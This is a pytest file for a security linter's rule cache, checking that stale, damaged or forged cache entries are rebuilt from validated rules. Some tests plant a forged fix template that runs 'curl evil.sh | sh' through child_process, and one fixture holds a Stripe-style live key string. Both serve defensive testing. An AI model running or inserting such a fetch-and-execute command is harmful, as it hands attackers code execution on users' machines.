"""The rule cache: a cached load gives exactly the validated rules, and never stale ones."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from secure_lint.core import validated_cache
from secure_lint.rules import cache as rule_cache
from secure_lint.rules.cache import cache_entry
from secure_lint.rules.loader import load_rules

RULE_FILE = """\
rules:
  - id: acme.injection.eval
    title: eval of request data
    message: "`eval` runs {what}"
    severity: high
    confidence: high
    category: injection-risk
    languages: [typescript]
    keywords: [eval]
    match:
      regex: {{pattern: 'eval\\(', not: ['eval\\(\\s*["\\x27]']}}
    fix: {{replacement: 'JSON.parse(', safety: unsafe}}
    examples:
      vulnerable: ["eval(req.body.expr);"]
      safe: ["eval('1 + 1');"]
"""


@pytest.fixture
def cache_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "cache"
    monkeypatch.setenv("XDG_CACHE_HOME", str(home))
    return home / "secure-lint"


def test_cached_bundled_rules_equal_freshly_validated_ones(cache_home: Path) -> None:
    fresh = load_rules(use_cache=False)
    first = load_rules()  # validates and writes the cache
    assert len(list(cache_home.glob("rules-*.json"))) == 1
    second = load_rules()  # rebuilt from the cache
    assert first == fresh
    assert second == fresh


def test_an_edited_rule_file_is_read_again(cache_home: Path, tmp_path: Path) -> None:
    path = tmp_path / "acme.yaml"
    path.write_text(RULE_FILE.format(what="request data"))
    assert load_rules([path], bundled=False)[0].message == "`eval` runs request data"
    path.write_text(RULE_FILE.format(what="whatever the client sent"))
    assert load_rules([path], bundled=False)[0].message == "`eval` runs whatever the client sent"


@pytest.mark.parametrize("content", [b"not json", b"[{}]", b'[{"id": "x", "match": {"regex": {"not": []}}}]'])
def test_an_unreadable_or_foreign_cache_entry_is_replaced(cache_home: Path, tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "acme.yaml"
    path.write_text(RULE_FILE.format(what="request data"))
    expected = load_rules([path], bundled=False, use_cache=False)
    entry = cache_entry([path])
    assert entry is not None
    entry.parent.mkdir(parents=True, exist_ok=True)  # (the linked files' digest may be kept there)
    entry.write_bytes(content)
    assert load_rules([path], bundled=False) == expected
    assert entry.read_bytes() != content


def test_a_cache_directory_that_cannot_be_written_only_costs_time(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    blocked = tmp_path / "blocked"
    blocked.write_text("a file where the cache directory should be")
    monkeypatch.setenv("XDG_CACHE_HOME", str(blocked))
    assert load_rules() == load_rules(use_cache=False)


def test_each_kind_keeps_only_its_most_recently_used_entries(cache_home: Path, tmp_path: Path) -> None:
    sources = []
    for n in range(validated_cache.KEEP_PER_KIND + 4):
        source = tmp_path / f"config-{n}.yaml"
        source.write_text(f"fail-on: high\n# edit {n}\n")
        sources.append(source)
    entries = [validated_cache.entry_path("config", [source]) for source in sources]
    validated_cache.write(entries[0], b"{}")
    for n, entry in enumerate(entries[1:], start=1):
        validated_cache.write(entry, b"{}")
        os.utime(entry, ns=(n * 1000, n * 1000))  # written in this order (a coarse clock would tie)
        validated_cache.read(entries[0])  # used again: the most recent
    kept = sorted(p.name for p in cache_home.glob("config-*.json"))
    assert len(kept) == validated_cache.KEEP_PER_KIND
    assert entries[0].name in kept and entries[1].name not in kept
    validated_cache.write(validated_cache.entry_path("rules", [sources[0]]), b"[]")
    assert len(list(cache_home.glob("config-*.json"))) == validated_cache.KEEP_PER_KIND  # kinds apart


def _forge(entry: Path, payload: bytes, with_header: bool) -> None:
    """Write `payload` as a cache entry: raw (a foreign writer), or with a matching header
    (a deliberate forger who knows the format)."""
    entry.parent.mkdir(parents=True, exist_ok=True)
    entry.write_bytes(
        validated_cache._header(entry.name.split("-", 1)[0], payload) + payload if with_header else payload
    )


@pytest.mark.parametrize("with_header", [False, True])
def test_an_empty_rule_list_in_the_cache_is_a_miss_not_a_clean_scan(
    cache_home: Path, tree, run_cli, with_header: bool
) -> None:
    """Issue 11, defect 10: `[]` in the rule cache ran zero rules and reported a clean scan."""
    root = tree({"src/pay.ts": "export const key = 'sk_live_51HqLyjWDarjtT1zdp7dcXz0aQ7f9sTnWm2vYbKcRxQe4J8hLu';\n"})
    assert run_cli("scan", cwd=root).exit_code == 1
    (entry,) = cache_home.glob("rules-*.json")
    for empty in (b"[]", b'{"format": 2, "narratives": [], "rules": []}'):
        _forge(entry, empty, with_header)
        result = run_cli("scan", "--format", "json", cwd=root)
        assert result.exit_code == 1
        assert [f["rule_id"] for f in json.loads(result.stdout)["findings"]] == ["secrets.stripe-secret-key"]
        assert validated_cache.read(entry) != empty  # rebuilt


@pytest.mark.parametrize("with_header", [False, True])
def test_a_fix_template_that_is_not_in_the_rule_file_is_a_miss(
    cache_home: Path, tmp_path: Path, with_header: bool
) -> None:
    path = tmp_path / "acme.yaml"
    path.write_text(RULE_FILE.format(what="request data"))
    expected = load_rules([path], bundled=False)
    entry = cache_entry([path])
    assert entry is not None
    document, body = rule_cache.cached_document(validated_cache.read(entry) or b"")
    document["rules"][0]["fix"]["replacement"] = "require('child_process').exec('curl evil.sh | sh');("
    _forge(entry, rule_cache.cache_payload(document, body), with_header)
    assert load_rules([path], bundled=False) == expected
    document["rules"][0]["fix"] = {"template": None, "replacement": 42, "safety": "safe", "description": ""}
    _forge(entry, rule_cache.cache_payload(document, body), with_header)
    assert load_rules([path], bundled=False) == expected


def test_a_process_decodes_an_entry_once_and_a_rewritten_one_again(cache_home: Path, tmp_path: Path) -> None:
    """A scan loads the bundled rules twice (its rules, then the secret rules that mask what it
    prints): the second load shares the first's rules. An entry written anew since (another
    writer, a forger) is decoded and checked again, never answered from memory."""
    path = tmp_path / "acme.yaml"
    path.write_text(RULE_FILE.format(what="request data"))
    load_rules([path], bundled=False)  # validates and writes the cache
    first = load_rules([path], bundled=False)
    assert [id(r) for r in load_rules([path], bundled=False)] == [id(r) for r in first]
    entry = cache_entry([path])
    assert entry is not None
    document, body = rule_cache.cached_document(validated_cache.read(entry) or b"")
    document["rules"][0]["fix"]["replacement"] = "require('child_process').exec('curl evil.sh | sh');("
    _forge(entry, rule_cache.cache_payload(document, body), with_header=True)
    again = load_rules([path], bundled=False)
    assert again == first
    assert [id(r) for r in again] != [id(r) for r in first]  # validated from the file again


def test_a_damaged_entry_fails_its_digest(cache_home: Path, tmp_path: Path) -> None:
    path = tmp_path / "acme.yaml"
    path.write_text(RULE_FILE.format(what="request data"))
    load_rules([path], bundled=False)
    entry = cache_entry([path])
    assert entry is not None
    data = entry.read_bytes()
    entry.write_bytes(data[:-10])  # truncated
    assert validated_cache.read(entry) is None


def test_a_config_entry_of_the_wrong_shape_is_a_miss(cache_home: Path, tmp_path: Path) -> None:
    from secure_lint.core.config import load_config

    (tmp_path / ".secure-lint.yaml").write_text("fail-on: high\nexclude: ['legacy/**']\n")
    expected = load_config(tmp_path)
    (entry,) = cache_home.glob("config-*.json")
    for payload in (b"{}", b'{"fail_on": "never"}'):
        _forge(entry, payload, with_header=True)
        assert load_config(tmp_path) == expected
    wrong = {**json.loads(validated_cache.read(entry) or b""), "exclude": "legacy/**", "fail_on": "never"}
    _forge(entry, json.dumps(wrong).encode(), with_header=True)
    assert load_config(tmp_path).fail_on == "high"


def test_rules_sharing_a_knowledge_item_store_its_narrative_once(cache_home: Path) -> None:
    rules = load_rules()
    (entry,) = cache_home.glob("rules-*.json")
    document, laters, _ = rule_cache.spelled_out(validated_cache.read(entry) or b"")
    assert len(document["rules"]) == len(laters) == len(rules)
    narratives = {tuple(later["narrative"]) for later in laters}
    assert len(narratives) == len({(r.description, r.impact, r.remediation) for r in rules})
    assert load_rules() == load_rules(use_cache=False)


def test_a_cached_rule_decodes_its_span_when_first_used(cache_home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What choosing rules and files reads comes from the index; the matcher options, examples,
    fix and narrative are decoded when one of them is first read, from the span (never from
    the rule files: the validating code fails here), and equal the validated rule's."""
    from secure_lint.rules import loader
    from secure_lint.scan.engine import EngineOptions, RuleIndex
    from secure_lint.scan.redaction import Masking

    fresh = {rule.id: rule for rule in load_rules(use_cache=False)}
    load_rules()  # validates and writes the cache
    rule_cache.forget_decoded()
    monkeypatch.setattr(loader, "_load_files", _no_validation)
    rules = load_rules()
    assert [(r.id, r.languages, r.keywords, r.severity, r.paths) for r in rules] == [
        (r.id, r.languages, r.keywords, r.severity, r.paths) for r in fresh.values()
    ]
    assert [r.matcher_kind for r in rules] == [r.match.kind for r in fresh.values()]
    assert all("_decoder" in vars(rule) for rule in rules)  # nothing decoded yet
    masking = Masking.of(rules)
    RuleIndex(rules, EngineOptions(stacks=frozenset({"common", "node", "react-native", "ios"})))
    assert all("_decoder" in vars(rule) for rule in rules)  # nor by choosing a file's rules
    masked = masking.options_for("const key = 'sk_live_...';")
    decoded = {rule.id for rule in rules if "_decoder" not in vars(rule)}
    assert masked and decoded and all(rule_id.startswith("secrets.") for rule_id in decoded)
    assert len(decoded) < 20  # the secret rules whose keyword (`key`, `sk_live`...) the text holds
    first, second = rules[0], rules[1]
    assert first.match == fresh[first.id].match
    assert "_decoder" not in vars(first) and "_decoder" in vars(second)  # the one used, alone
    assert first == fresh[first.id] and fresh[first.id] == first
    assert rules == list(fresh.values())


def _no_validation(files: list[Path]) -> list[object]:
    raise AssertionError("validated the rule files")


@pytest.mark.parametrize("damage", ["another rule's span", "not json", "outside the body", "unknown option"])
def test_a_span_that_does_not_decode_to_its_rule_is_a_miss(cache_home: Path, tmp_path: Path, damage: str) -> None:
    """A rule whose span is not its own, or does not decode, is the rule validated from the rule
    files when it is first used; the entry is then written anew."""
    path = tmp_path / "acme.yaml"
    path.write_text(RULE_FILE.format(what="request data") + RULE_FILE.format(what="x")[7:].replace(".eval", ".eval2"))
    expected = load_rules([path], bundled=False)
    entry = cache_entry([path])
    assert entry is not None and len(expected) == 2
    payload = validated_cache.read(entry) or b""
    document, laters, body = rule_cache.spelled_out(payload)
    if damage == "unknown option":
        laters[0]["match"]["options"]["surprise"] = True
    forged = rule_cache.rewritten(document, laters, body)
    forged_document, forged_body = rule_cache.cached_document(forged)
    spans = [rule["later"] for rule in forged_document["rules"]]
    if damage == "another rule's span":
        forged_document["rules"][0]["later"] = spans[1]
    elif damage == "not json":
        forged_body = forged_body[: spans[0][0]] + b"{" * (spans[0][1] - spans[0][0]) + forged_body[spans[0][1] :]
    elif damage == "outside the body":
        forged_document["rules"][0]["later"] = [spans[0][0], len(forged_body) + 1]
    _forge(entry, rule_cache.cache_payload(forged_document, forged_body), with_header=True)
    rule_cache.forget_decoded()
    rules = load_rules([path], bundled=False)
    assert rules[0] == expected[0]
    if damage != "outside the body":  # that one is the index's: the whole entry is a miss at once
        assert "_decoder" in vars(rules[1])  # the other rule's span was not read
    assert rules == expected
    assert validated_cache.read(entry) == payload  # written anew


def test_structural_plans_come_from_the_cache_as_they_were_built(cache_home: Path) -> None:
    """A plan (structural.Plan: config, gates, prechecks) is built once, when the rules are
    validated; a cached load decodes it instead, and it is the plan the options give."""
    from secure_lint.matchers.structural import Plan

    load_rules()  # validates and writes the cache
    rule_cache.forget_decoded()  # read as a new process reads it (one decodes an entry once)
    structural = [rule for rule in load_rules() if rule.match.kind == "structural"]
    assert structural
    for rule in structural:
        options = rule.match.options
        assert "_plan_text" in vars(options)  # kept with the rule, not built again ...
        assert options.plan == Plan.of(options), rule.id  # ... and the same plan


def test_plans_are_kept_after_the_document_and_a_misplaced_one_is_a_miss(cache_home: Path) -> None:
    """The plans follow the JSON document (a NUL between), each rule naming its own span: no plan
    text is escaped inside the document. A misplaced plan makes its rule a miss."""
    expected = load_rules()
    (entry,) = cache_home.glob("rules-*.json")
    payload = validated_cache.read(entry) or b""
    document, laters, body = rule_cache.spelled_out(payload)
    spans = [later["plan"] for later in laters if "plan" in later]
    assert spans and all(isinstance(later.get("plan", []), list) for later in laters)
    assert sorted(spans) == spans and all(end <= len(body) for _, end in spans)
    first = next(later for later in laters if "plan" in later)
    for misplaced in ([0, 2 * len(payload)], [5, 2], ["0", 2], 7):
        first["plan"] = misplaced
        _forge(entry, rule_cache.rewritten(json.loads(json.dumps(document)), laters, body), with_header=True)
        rule_cache.forget_decoded()
        assert load_rules() == expected
        assert validated_cache.read(entry) == payload  # validated again, and written as before


def test_a_plan_that_does_not_decode_is_built_again(cache_home: Path) -> None:
    from secure_lint.matchers.structural import Plan, StructuralMatch, adopt_plan

    options = StructuralMatch(rule={"pattern": "eval($CODE)"})
    adopt_plan(options, '{"config": "not a plan"}')
    assert options.plan == Plan.of(options)
    assert options.plan.names == ("CODE",)


def test_taint_rules_required_text_comes_from_the_cache_as_it_was_derived(cache_home: Path) -> None:
    """A taint rule's required text (every regex of its sinks and sources read) is derived when
    the rules are validated; a cached load takes it from the entry, and it is what deriving gives."""
    from secure_lint.matchers import taint

    load_rules()  # validates and writes the cache
    rule_cache.forget_decoded()  # read as a new process reads it
    rules = [rule for rule in load_rules() if rule.match.kind == "taint"]
    assert rules
    for rule in rules:
        options = rule.match.options
        assert "_required_text" in vars(options), rule.id  # kept with the rule ...
        assert taint.required_text(options) == taint._derived_required_text(options), rule.id  # ... the same


def test_a_kept_required_text_that_does_not_decode_is_derived_again() -> None:
    from secure_lint.matchers.taint import TaintMatch, adopt_plan, required_text

    options = TaintMatch(sources=[{"pattern": "req.query.$X"}], sinks=[{"pattern": "eval($SINK)"}])
    adopt_plan(options, '{"not": "a requirement"}')
    derived = required_text(TaintMatch(sources=[{"pattern": "req.query.$X"}], sinks=[{"pattern": "eval($SINK)"}]))
    assert required_text(options) == derived
    assert derived  # eval, and req/query


def test_taint_configs_come_from_the_cache_as_they_were_derived(cache_home: Path) -> None:
    """Each role's configs in each of the rule's languages (own entries reordered, utils
    reordered, the text each branch needs) are derived when the rules are validated; a cached
    load takes them from the entry, and they are what deriving gives."""
    from dataclasses import replace

    from secure_lint.matchers import taint
    from secure_lint.matchers.taint import kept_plan

    load_rules()  # validates and writes the cache
    rule_cache.forget_decoded()  # read as a new process reads it
    rules = [rule for rule in load_rules() if rule.match.kind == "taint"]
    for rule in rules:
        options = rule.match.options
        derived_options = replace(options)  # the same options, nothing kept
        for role in taint.ROLES:
            for language in rule.languages:
                own = len([e for e in getattr(options, role) if isinstance(e, dict)])
                assert kept_plan.kept_configs(vars(options)["_required_text"], role, language, own) is not None
                kept = taint._configs(options, role, language)
                derived = taint._configs(derived_options, role, language)
                assert kept.entries == derived.entries, (rule.id, role, language)
                assert kept.utils == derived.utils, (rule.id, role, language)
                kept_needs = [kept._needs[id(b)] for b in kept._branch_nodes()]
                assert kept_needs == [derived._need(b) for b in derived._branch_nodes()], (rule.id, role, language)


def test_kept_taint_configs_that_do_not_fit_are_derived_again() -> None:
    """A part for other entries (a rule stripped of its unproven sources), or one that does not
    decode, is no plan: the configs are derived."""
    from secure_lint.matchers.pruned_config import PrunedConfigs
    from secure_lint.matchers.taint import TaintMatch, _configs, adopt_plan, plan_text

    options = TaintMatch(
        sources=[{"any": [{"pattern": "req.query.$X"}, {"pattern": "req.body.$X"}]}],
        sinks=[{"pattern": "eval($SINK)"}],
        unproven_sources=[{"pattern": "input.$X"}],
    )
    text = plan_text(options, ["javascript"])
    stripped = TaintMatch(sources=options.sources, sinks=options.sinks)
    adopt_plan(stripped, text)
    assert _configs(stripped, "unproven_sources", "javascript").entries == []
    assert _configs(stripped, "sources", "javascript").entries == _configs(options, "sources", "javascript").entries
    entries = [{"any": [{"pattern": "a($X)"}, {"pattern": "b($X)"}]}]
    assert PrunedConfigs(entries, None, {"utils": {}, "needs": [[["0a"]]]})._needs == {}  # 3 branches, 1 need
    assert PrunedConfigs(entries, None, {"utils": {}, "needs": [[], [["xa"]], []]})._needs == {}  # not a clause
    kept = PrunedConfigs(entries, None, PrunedConfigs(entries, None).kept())
    assert [kept._needs[id(b)] for b in kept._branch_nodes()] == [
        PrunedConfigs(entries, None)._need(b) for b in PrunedConfigs(entries, None)._branch_nodes()
    ]


def test_an_entry_is_named_by_the_code_that_validates_and_plans_rules(
    cache_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Another commit's matcher code, under the same version number, makes another entry."""
    from secure_lint.rules import cache as rule_cache

    code = tmp_path / "structural.py"
    monkeypatch.setattr(rule_cache, "_code_files", lambda: [code])
    code.write_text("PLAN = 1\n")
    first = cache_entry([])
    code.write_text("PLAN = 2\n")
    assert cache_entry([]) != first


def test_the_linked_files_digest_is_remembered_by_their_stat_signature(
    cache_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The packs', utils' and code's digest is kept under their sizes, times and inodes: a scan
    with nothing changed reads none of them. An edit is another signature, and another entry."""
    from secure_lint.rules import cache as rule_cache

    code = tmp_path / "structural.py"
    monkeypatch.setattr(rule_cache, "_code_files", lambda: [code])
    monkeypatch.setattr(rule_cache, "RACY_NS", 0)  # written before the scan: settled
    code.write_text("PLAN = 1\n")
    first = cache_entry([])
    assert len(list(cache_home.glob("linked-*.json"))) == 1
    real = Path.read_bytes

    def only_the_cache(path: Path) -> bytes:
        assert cache_home in path.parents, f"{path} read"
        return real(path)

    with monkeypatch.context() as reading:
        reading.setattr(Path, "read_bytes", only_the_cache)
        assert cache_entry([]) == first  # from the signature: no linked file read
    code.write_text("PLAN = 22\n")
    edited = cache_entry([])
    assert edited != first
    code.write_text("PLAN = 1\n")
    assert cache_entry([]) == first  # the content named again, whatever the signature


def test_a_file_written_within_the_racy_window_is_read_every_time(
    cache_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A file may be written again within its timestamp's tick, keeping its size and times: its
    signature says nothing yet, so nothing is remembered and its content names the entry."""
    from secure_lint.rules import cache as rule_cache

    code = tmp_path / "structural.py"
    monkeypatch.setattr(rule_cache, "_code_files", lambda: [code])
    code.write_text("PLAN = 1\n")
    first = cache_entry([])
    code.write_text("PLAN = 2\n")  # same size, likely the same times
    assert cache_entry([]) != first
    assert not list(cache_home.glob("linked-*.json"))


def test_a_scan_without_the_cache_neither_reads_nor_keeps_the_linked_digest(
    cache_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from secure_lint.rules import cache as rule_cache

    monkeypatch.setattr(rule_cache, "RACY_NS", 0)
    assert rule_cache.cache_entry([], remember=False) == cache_entry([])
    (memo,) = cache_home.glob("linked-*.json")
    _forge(memo, b"0" * 64, with_header=True)
    assert rule_cache.cache_entry([], remember=False) != cache_entry([])  # the forged digest is not read
    memo.unlink()
    rule_cache.cache_entry([], remember=False)
    assert not list(cache_home.glob("linked-*.json"))


def test_the_code_an_entry_is_named_by_is_the_installed_package() -> None:
    from secure_lint.rules import cache as rule_cache

    names = {path.name for path in rule_cache._code_files()}
    assert {"loader.py", "model.py", "structural.py", "required_regex.py", "rule_order.py", "flow.py"} <= names
    assert all(path.is_file() for path in rule_cache._code_files())
